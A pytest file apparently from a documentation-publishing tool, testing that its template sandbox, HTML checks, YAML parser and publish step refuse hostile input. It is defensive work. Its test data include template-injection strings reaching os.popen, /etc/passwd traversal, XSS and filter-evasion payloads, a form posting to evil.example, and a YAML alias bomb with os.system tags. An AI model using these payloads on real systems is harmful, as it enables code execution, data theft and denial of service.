"""Bad-input corpus, pure-function level: each case is a mutation and the message fragment it
must produce (and, for markup, what must never come out). No build runs here; the real-build
tests in ``test_safety_build.py`` seed many of these into a few builds."""

from __future__ import annotations

import errno
import os
import time
from pathlib import Path

import pytest
from conftest import REPO
from jinja2 import Environment, StrictUndefined
from policykit.checks.active import page_active, script_hash
from policykit.checks.sourcefiles import file_findings, text_findings
from policykit.checks.template_safety import refused_constructs
from policykit.findings import InputError
from policykit.lifecycle import publish as publishing
from policykit.output.sandbox import page_sandbox, snippet_problem
from policykit.project import Project
from policykit.sources.variables import load_schema, load_variables, validate_text
from policykit.sources.yamlfile import parse_yaml
from policykit.text import literal

# --- 1. templates: refused before rendering ------------------------------------------------

STATIC = [
    ("{{ cycler.__init__.__globals__.os.popen('id').read() }}", "'__init__' reaches Python internals"),
    ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "'__class__' reaches Python internals"),
    ("{{ policy['__class__'] }}", "'__class__' reaches Python internals"),
    ("{{ _policykit_state }}", "'_policykit_state' is internal"),
    ("{{ macros_info() }}", "'macros_info' is a debugging macro"),
    ("{{ context() }}", "'context' is a debugging macro"),
    ("{{ config.site_dir }}", "'config' is MkDocs' configuration"),
    ("{{ page.file.abs_src_path }}", "'page' is MkDocs' page object"),
    ("{{ environment }}", "'environment' is the build machine's versions"),
    ("{{ git }}", "'git' is the repository's git details"),
    ("{{ plugin }}", "'plugin' is the macros plugin's configuration"),
    ("{{ now() }}", "'now' is the build time"),
    ("{% set n = namespace(s='a') %}", "'namespace' is a Jinja helper object"),
    ("{{ lipsum() }}", "'lipsum' is a Jinja helper"),
    ("{{ policy.title | safe }}", "'|safe': it would insert a value as HTML"),
    ("{{ policy | pprint }}", "'|pprint': it prints Python objects"),
    ("{{ policy | attr('x') }}", "'|attr': it reads Python attributes"),
    ("{% include '/etc/passwd' %}", "include of '/etc/passwd' is not a relative name"),
    ("{% include '../../.git/config' %}", "climbs out of docs/_snippets with '..'"),
    ("{% include 'C:\\\\x.md' %}", "is not a relative name inside docs/_snippets"),
    ("{% include 'missing.md' %}", "there is no snippet 'missing.md'"),
    ("{% include policy.title %}", "include of a name computed while rendering"),
    ("{% import 'x' ~ 'y' as m %}", "import of a name computed while rendering"),
    ("{% from '/etc/hosts' import a %}", "fromimport of '/etc/hosts' is not a relative name"),
    ("{% extends '../mkdocs.yml' %}", "extends of '../mkdocs.yml' climbs out"),
    ("{% for i in range(10**9) %}x{% endfor %}", "range() with 1,000,000,000 items"),
    ("{% for i in range(0, 5000) %}x{% endfor %}", "range() with 5,000 items"),
    ("{{ 'A'*10**10 }}", "repeats a text past 100,000 characters"),
    ("{{ 10**6 * 'AB' }}", "repeats a text past 100,000 characters"),
    ("{% for a in x %}{% for b in x %}{% for c in x %}{% endfor %}{% endfor %}{% endfor %}",
     "loops nested 3 deep"),
]


@pytest.fixture(scope="module")
def snippets(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    root = tmp_path_factory.mktemp("repo")
    folder = root / "docs" / "_snippets"
    folder.mkdir(parents=True)
    (folder / "note.md").write_text("Note {{ policy.version }}\n", encoding="utf-8")
    (folder / "outside.md").symlink_to("/etc/hostname")
    (folder / "sub").mkdir()
    return folder, root


@pytest.mark.parametrize(("source", "fragment"), STATIC)
def test_refused_construct_is_named_at_its_line(source: str, fragment: str,
                                                snippets: tuple[Path, Path]) -> None:
    folder, root = snippets
    tree = Environment().parse("intro\n\n" + source)
    found = refused_constructs(tree, "docs/x.nl.md", 4, folder, root)
    messages = [str(f) for f in found]
    assert any(fragment in m for m in messages), messages
    assert all(m.startswith("docs/x.nl.md:7: not allowed in a page: ") for m in messages), messages
    assert all(" — " in m and "Traceback" not in m for m in messages)


ALLOWED = ["{{ policy.title }}", "{% include 'note.md' %}", "{% for i in range(10) %}{% endfor %}",
           "{% for a in x %}{% for b in a %}{{ loop.index }}{% endfor %}{% endfor %}",
           "{{ contacts.hr.name | upper }}", "{{ 'ab' * 3 }}", "{% if flags.us_staff %}x{% endif %}"]


@pytest.mark.parametrize("source", ALLOWED)
def test_ordinary_templates_are_not_refused(source: str, snippets: tuple[Path, Path]) -> None:
    folder, root = snippets
    assert refused_constructs(Environment().parse(source), "p.md", 0, folder, root) == []


@pytest.mark.parametrize(("name", "fragment"), [
    ("note.md", None), ("outside.md", "symbolic link that leaves the snippets folder"),
    ("sub", "is a folder, not a snippet file"), ("", "the snippet name is not a text"),
    ("~/x.md", "not a relative name"), ("a/../../x.md", "climbs out"),
])
def test_snippet_names(name: str, fragment: str | None, snippets: tuple[Path, Path]) -> None:
    problem = snippet_problem(name, *snippets)
    assert problem is None if fragment is None else fragment in problem


# --- 1. templates: refused or failing while rendering ---------------------------------------

RUNTIME = [
    ("{{ 1/0 }}", "division by zero"),
    ("{{ 1//0 }}", "division by zero"),
    ("{{ t.__class__ }}", "not allowed in a page"),
    ("{{ t.format(1) }}", "'.format' of str"),
    ("{{ x }}", "unknown value: 'x' is undefined"),
    ("{% set s = 'ab' %}{{ s * 100000 }}", "repeats a text or list past 100,000"),
    ("{{ range(n) | list }}", "range() with 1,000,000 items"),
    ("{{ t | center(1000000) }}", "|center() with the number 1000000"),
    ("{{ t | indent(99999) }}", "|indent() with the number 99999"),
    ('{{ "%099999d" % 1 }}', "'%' with a width past 9,999"),
    ("{{ 2 ** 100000 }}", "use exponents up to 64"),
    ("{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}", "a macro calls itself without end"),
    ("{% macro f(n) %}{% if n %}{{ f(n-1) }}{{ f(n-1) }}{% endif %}{% endmacro %}{{ f(40) }}",
     "more than 10,000 macro calls in one page"),
    ("{% include '/etc/passwd' %}", "include of '/etc/passwd' is not a relative name"),
    ("{% include 'outside.md' %}", "symbolic link that leaves the snippets folder"),
    ("{{ d.keys.__self__ }}", "not allowed in a page"),
    ("{{ cycler }}", "unknown value: 'cycler' is undefined"),
]


@pytest.fixture(scope="module")
def sandbox(snippets: tuple[Path, Path]):
    env = page_sandbox(Environment(undefined=StrictUndefined, finalize=literal), *snippets)
    env.page_path, env.line_offset = "docs/x.en.md", 10
    return env


@pytest.mark.parametrize(("source", "fragment"), RUNTIME)
def test_failing_expression_is_a_finding_not_a_traceback(source: str, fragment: str,
                                                         sandbox) -> None:
    found = []
    sandbox.report = found.append
    started = time.perf_counter()
    out = sandbox.from_string("line one\n" + source).render(t="text", d={"a": 1}, n=10**6)
    assert time.perf_counter() - started < 5  # bounded (a fraction of a second when idle)
    assert len(found) == 1, out
    message = str(found[0])
    assert fragment in message, message
    assert message.startswith("docs/x.en.md:12: ") and "Traceback" not in out + message
    assert out.startswith("!!! failure")


def test_values_render_as_text_and_snippets_render(sandbox) -> None:
    found = []
    sandbox.report = found.append
    out = sandbox.from_string("{{ t }} {% include 'note.md' %}").render(
        t="</title><svg onload=alert(1)>{{ 7*7 }}", policy={"version": "2.1"})
    assert found == []
    assert "<svg" not in out and "49" not in out and "&lt;svg" in out and "Note 2.1" in out


# --- 3. active content in built HTML --------------------------------------------------------

KIT_SCRIPT = "var kit=1"
ACTIVE = [
    ("<script>alert(1)</script>", "inline <script>"),
    ("<SCRIPT type='text/javascript'>x()</SCRIPT >", "inline <script>"),
    ("<svg><script>x()</script></svg>", "inline <script>"),
    ("<script type=module>import('x')</script>", "inline <script>"),
    ("<p onclick=alert(1)>x</p>", "<p onclick=…> runs JavaScript"),
    ("<img src=x onerror=alert(1)>", "<img onerror=…> runs JavaScript"),
    ('<div title=">" onmouseover="x()">', "<div onmouseover=…>"),
    ("<svg onload=alert(1)>", "<svg onload=…>"),
    ("<body ONLOAD=x()>", "<body onload=…>"),
    ('<a href="javascript:alert(1)">x</a>', '<a href="javascript:…"> runs a script'),
    ('<a href="  JaVaScRiPt:alert(1)">x</a>', 'runs a script'),
    ('<a href="java&#x09;script:alert(1)">x</a>', 'runs a script'),
    ('<a href="vbscript:msgbox(1)">x</a>', '<a href="vbscript:…">'),
    ('<iframe src="javascript:alert(1)"></iframe>', "runs a script"),
    ('<svg><a xlink:href="javascript:x()">t</a></svg>', "runs a script"),
    ('<svg><animate attributeName=href values="javascript:x()"/></svg>', "runs a script"),
    ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', '<a href="data:…"> carries a file'),
    ('<img src="data:image/svg+xml,<svg onload=x()>">', "carries a file"),
    ('<form action="https://evil.example/steal"><input name=p></form>',
     "<form> sends what a reader types to 'https://evil.example/steal'"),
    ('<form method=post><button formaction="https://evil.example">x</button></form>', "<form>"),
    ('<button formaction="javascript:x()">x</button>', "runs a script"),
    ('<base href="https://evil.example/">', "<base> changes where every link"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "<meta http-equiv=refresh>"),
    ('<meta http-equiv=REFRESH content=1>', "<meta http-equiv=refresh>"),
    ('<object data="x.swf"></object>', "<object> embeds a program"),
    ('<embed src="x.swf">', "<embed> embeds a program"),
    ('<applet code="x"></applet>', "<applet> embeds a program"),
    ('<iframe srcdoc="<script>x()</script>"></iframe>', "<iframe srcdoc> embeds a page"),
    ('<svg><use href="https://evil.example/i.svg#a"/></svg>', "<use> shows 'https://evil.example"),
    ('<svg><image xlink:href="//evil.example/i.png"/></svg>', "<image> shows '//evil.example"),
    ('<p style="background:red">x</p>', "inline styles are blocked"),
    ('<!--><img src=x onerror=alert(1)>-->', "<img onerror=…>"),
    ('<!-- a --!><p onclick=x()>', "<p onclick=…>"),
    ('<a x=a"b y="c>d" onclick=alert(1)>t</a>', "<a onclick=…>"),
    ("<a title='>' onclick=x()>t</a>", "<a onclick=…>"),
    ('<img/src="x"/onerror=alert(1)>', "<img onerror=…>"),
    ('<p\nclass="x"\nonclick="y()">t</p>', "<p onclick=…>"),
]


@pytest.mark.parametrize(("html", "fragment"), ACTIVE)
def test_active_content_is_refused(html: str, fragment: str) -> None:
    page = f"<html><head><script>{KIT_SCRIPT}</script></head>\n<body>\n{html}\n</body></html>"
    found = page_active(page, {script_hash(KIT_SCRIPT)})
    messages = [f"{f.line}: {f.message} — {f.fix}" for f in found]
    assert any(fragment in m for m in messages), messages
    assert all(m.startswith("3: ") for m in messages), messages


PASSIVE = ['<a href="https://example.org/">x</a>', '<img src="assets/logo.png" alt="">',
           '<form class="md-search__form" name="search"><input type="text"></form>',
           f"<script>{KIT_SCRIPT}</script>", '<script src="assets/x.js"></script>',
           '<script type="application/ld+json">{"a": 1}</script>',
           "<p>onclick=alert(1) as text, javascript: as text</p>",
           "<!-- <script>x()</script> -->", '<a href="mailto:a@example.org">m</a>',
           '<meta http-equiv="content-type" content="text/html">', '<a data-x="onclick">x</a>',
           "<img/src=x/onerror=alert(1)>"]  # one unquoted src value, as a browser reads it


@pytest.mark.parametrize("html", PASSIVE)
def test_passive_content_passes(html: str) -> None:
    assert page_active(html, {script_hash(KIT_SCRIPT)}) == []


def test_link_rel_me_is_judged_the_same_at_build_and_publish(tmp_path: Path) -> None:
    from policykit.checks.active import site_findings
    (tmp_path / "index.html").write_text('<link rel="me" href="https://social.example/@us">')
    assert site_findings(tmp_path, set()) == []
    (tmp_path / "index.html").write_text('<link rel="stylesheet" href="https://cdn.example/x.css">')
    assert ["another host" in f.message for f in site_findings(tmp_path, set())] == [True]


# --- 4/5. source files ------------------------------------------------------------------------

TEXTS = [
    (b"a\n<<<<<<< HEAD\nours\n=======\ntheirs\n>>>>>>> kit\n", [2, 4, 6], "merge conflict marker"),
    (b"x: 1\n<<<<<<< ours\n", [2], "merge conflict marker '<<<<<<<'"),
    (b"body { }\n>>>>>>> v2\n", [2], "merge conflict marker '>>>>>>>'"),
    (b"<<<<<<< a\r\n=======\r\n>>>>>>> b\r\n", [1, 2, 3], "merge conflict marker"),
    (b"Title\n=======\n\ntext\n", [], ""),
    (b"caf\xe9\n", [1], "not UTF-8 text (byte 0xe9)"),
    (b"ok\nok\n\xff\xfe", [3], "not UTF-8 text"),
    (b"\x89PNG\r\n\x1a\n\0\0\0", [None], "a binary file, not text"),
    (b"plain text\n", [], ""),
]


@pytest.mark.parametrize(("data", "lines", "fragment"), TEXTS)
def test_text_source_problems(data: bytes, lines: list, fragment: str) -> None:
    found = text_findings("docs/a.nl.md", data)
    assert [f.line for f in found] == lines
    assert all(fragment in f.message and " — " in str(f) for f in found)


def test_links_out_of_the_repository_loops_and_sizes(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    (root / "docs").mkdir(parents=True)
    cases = {
        "docs/passwd.md": ("/etc/passwd", "symbolic link to '/etc/passwd', outside the repository"),
        "docs/loop.md": ("loop.md", "symbolic link that loops or points nowhere"),
        "docs/gone.md": ("nothing-here.md", "symbolic link that loops or points nowhere"),
        "docs/up": ("../..", "outside the repository"),
        "docs/git.md": ("../.git/config", "into the repository's .git folder"),
    }
    (root / ".git").mkdir()
    (root / ".git" / "config").write_text("[core]")
    for rel, (target, _) in cases.items():
        (root / rel).symlink_to(target)
    for rel, (_, fragment) in cases.items():
        found = file_findings(rel, root / rel, root)
        assert len(found) == 1 and fragment in found[0].message, (rel, found)
    (root / "docs" / "inside.md").symlink_to("real.md")
    (root / "docs" / "real.md").write_text("fine")
    assert file_findings("docs/inside.md", root / "docs" / "inside.md", root) == []
    big = root / "docs" / "big.md"
    big.write_bytes(b"x" * (2 * 1024 * 1024 + 1))
    assert "more than the 2 MB allowed" in file_findings("docs/big.md", big, root)[0].message
    (root / "variables").mkdir()
    variables = root / "variables" / "company.yml"
    variables.write_bytes(b"x" * (3 * 1024 * 1024))
    assert file_findings("variables/company.yml", variables, root) == []
    variables.write_bytes(b"x" * (5 * 1024 * 1024 + 1))
    assert "5 MB" in file_findings("variables/company.yml", variables, root)[0].message


# --- 6. the variables file --------------------------------------------------------------------

BOMB = "".join(f"{c}: &{c} [{', '.join(['*' + p] * 9 if p else ['lol'] * 9)}]\n"
               for p, c in zip(["", *"abcdefgh"], "abcdefghi", strict=True))
YAMLS = [
    (BOMB, "aliases (*name) expand these values to more than 100,000 values", 6),
    ("a: !!python/object/apply:os.system ['id']\n",
     "the tag '!!python/object/apply:os.system' is not allowed", 1),
    ("a: 1\nb: !!python/name:os.system\n", "the tag '!!python/name:os.system' is not allowed", 2),
    ("a: !!binary aGk=\n", "the tag '!!binary' is not allowed", 1),
    ("a: !ENV HOME\n", "the tag '!ENV' is not allowed", 1),
    ("a: !!timestamp 2026-01-01\n", "the tag '!!timestamp' is not allowed", 1),
    ("x: " + "[" * 10_000 + "]" * 10_000 + "\n", "nested deeper than 32 levels", 1),
    ("x: " + "[a, " * 5_000 + "]" * 5_000 + "\n", "nested deeper than 32 levels", 1),
    ("a:\n" + "".join("  " * i + "k:\n" for i in range(1, 40)), "nested deeper than 32 levels", 33),
    ("a: 'open\n", "YAML syntax error", 1),
    ("a: 1\na: 2\n", "key 'a' is written twice (first on line 1)", 2),
]


@pytest.mark.parametrize(("text", "fragment", "line"), YAMLS)
def test_yaml_input_is_bounded(text: str, fragment: str, line: int | None) -> None:
    started = time.perf_counter()
    with pytest.raises(InputError) as caught:
        parse_yaml(text, "variables/company.yml")
    assert time.perf_counter() - started < 1.5
    finding = caught.value.findings[0]
    assert fragment in finding.message and finding.line == line, str(finding)


@pytest.fixture(scope="module")
def schema() -> dict:
    return load_schema(REPO / "variables" / "company.schema.json")


@pytest.fixture(scope="module")
def example_text() -> str:
    return (REPO / "variables" / "company.yml").read_text(encoding="utf-8")


VALUES = [
    ('  website: "https://www.brugwerk.example"', '  website: "http://www.brugwerk.example"',
     "organisation.website: 'http://www.brugwerk.example' is not a web address"),
    ('    url: "https://intranet.brugwerk.example/gedragscode"',
     '    url: "http://intranet.brugwerk.example/gedragscode"', "is not a web address"),
    ('    url: "https://www.linkedin.example/company/brugwerk-ingenieurs"',
     '    url: "ftp://x.example"', "accounts[0].url: 'ftp://x.example' is not a web address"),
    ('  website: "https://www.brugwerk.example"', '  website: "http://' + "x" * 300 + '"',
     "is not a web address"),
    ("  review_cycle_months: 12", "  review_cycle_months: [12]",
     "policy.review_cycle_months: expected a whole number, found a list"),
    ("  draft: false", "  draft: {a: 1}", "policy.draft: expected true or false, found a group"),
    ("  retention_days: 90", "  retention_days: 'ninety'", "monitoring.retention_days: expected a whole"),
    ("  retention_days: 90", "  retention_days: 90\n  " + "k" * 500 + ": 1", "kkkk…: unknown key"),
    ("  draft: false", "  draft: '" + "y" * 500 + "'", "policy.draft: expected true or false, found "
     "the text 'yyyy"),
]


@pytest.mark.parametrize(("old", "new", "fragment"), VALUES)
def test_wrong_values_are_findings_with_short_messages(old: str, new: str, fragment: str,
                                                       schema: dict, example_text: str) -> None:
    assert old in example_text
    found = validate_text(example_text.replace(old, new, 1), schema, "variables/company.yml")
    messages = [f.message for f in found]
    if len(new) > 300:
        assert all(len(m) < 200 for m in messages) and any("…" in m for m in messages), messages
    assert any(fragment in m for m in messages), messages


def test_variables_file_that_is_a_folder_or_a_loop(tmp_path: Path, schema: dict) -> None:
    folder = tmp_path / "company.yml"
    folder.mkdir()
    loop = tmp_path / "loop.yml"
    loop.symlink_to(loop)
    for path, fragment in ((folder, "is a folder, not a file"), (loop, "cannot be read")):
        with pytest.raises(InputError) as caught:
            load_variables(path, schema, "variables/company.yml")
        assert fragment in str(caught.value) and "Traceback" not in str(caught.value)


def test_project_with_a_looping_variables_file_gives_a_message(tmp_path: Path) -> None:
    (tmp_path / "variables").mkdir()
    (tmp_path / "variables" / "company.yml").symlink_to("company.yml")
    (tmp_path / "variables" / "company.schema.json").write_text("{}")
    with pytest.raises(InputError, match="cannot be read"):
        Project(tmp_path).load_variables()


# --- 7. publishing under faults ----------------------------------------------------------------

WRITE_SITE = ("import pathlib, sys; site = pathlib.Path(sys.argv[1]); "
              "(site / 'index.html').write_text(sys.argv[2])")


def fake_build(text: str) -> list[str]:
    import sys
    return [sys.executable, "-c", WRITE_SITE, "{site}", text]


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes()
            for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.mark.parametrize(("dest", "fragment"), [
    ("/proc/policy-site", "inside a system folder"),
    ("/sys/kernel/policy", "inside a system folder"),
    ("{tmp}/no/such/parent/site", "does not exist — create that folder first"),
    ("{tmp}/file", "is a file, not a published site folder"),
])
def test_publish_refuses_impossible_destinations(dest: str, fragment: str, tmp_path: Path) -> None:
    (tmp_path / "file").write_text("x")
    with pytest.raises(publishing.PublishError, match=fragment):
        publishing.publish(Path(dest.format(tmp=tmp_path)), fake_build("x"), cwd=tmp_path)


@pytest.mark.parametrize(("code", "fragment"), [
    (errno.ENOSPC, "is full — free space there"),
    (errno.EROFS, "cannot write to"),
    (errno.EACCES, "publish as a user who may write there"),
])
def test_disk_faults_leave_the_live_site_byte_identical(code: int, fragment: str, tmp_path: Path,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    dest = tmp_path / "site"
    publishing.publish(dest, fake_build("live"), cwd=tmp_path)
    before, live = snapshot(dest), os.readlink(dest)

    def fail(self, target):
        raise OSError(code, os.strerror(code), str(self))
    monkeypatch.setattr(Path, "rename", fail)
    with pytest.raises(publishing.PublishError, match=fragment):
        publishing.publish(dest, fake_build("new"), cwd=tmp_path)
    assert snapshot(dest) == before and os.readlink(dest) == live
    monkeypatch.undo()
    assert not list(publishing.Release(dest).releases_dir.glob("build-*"))


def test_full_disk_during_the_build_is_one_message(tmp_path: Path) -> None:
    import sys
    dest = tmp_path / "site"
    publishing.publish(dest, fake_build("live"), cwd=tmp_path)
    full = [sys.executable, "-c", "open('/dev/full', 'w').write('x' * 99999)"]
    with pytest.raises(publishing.PublishError) as caught:
        publishing.publish(dest, full, cwd=tmp_path)
    assert "is full" in str(caught.value) and "Traceback" not in str(caught.value)
    assert (dest / "index.html").read_text() == "live"


def test_killed_publish_leftovers_are_cleaned_and_rollback_switches_back(tmp_path: Path) -> None:
    dest = tmp_path / "site"
    for number in range(1, 5):
        publishing.publish(dest, fake_build(f"v{number}"), cwd=tmp_path, keep=3)
    releases = publishing.Release(dest).releases_dir
    (releases / "build-killed").mkdir()
    (releases / "build-killed" / "half.html").write_text("half")
    (tmp_path / ".site.switch-999").symlink_to("site.releases/build-killed")
    publishing.publish(dest, fake_build("v5"), cwd=tmp_path, keep=3)
    assert not (releases / "build-killed").exists() and not (tmp_path / ".site.switch-999").is_symlink()
    assert len([p for p in releases.iterdir() if p.is_dir()]) == 3
    left, served = publishing.rollback(dest)
    assert (dest / "index.html").read_text() == "v4" and dest.is_symlink()
    publishing.rollback(dest)
    assert (dest / "index.html").read_text() == "v3"
    with pytest.raises(publishing.PublishError, match="no release before"):
        publishing.rollback(dest)
    assert (dest / "index.html").read_text() == "v3"


def test_rollback_with_nothing_published(tmp_path: Path) -> None:
    with pytest.raises(publishing.PublishError, match="nothing is published"):
        publishing.rollback(tmp_path / "site")
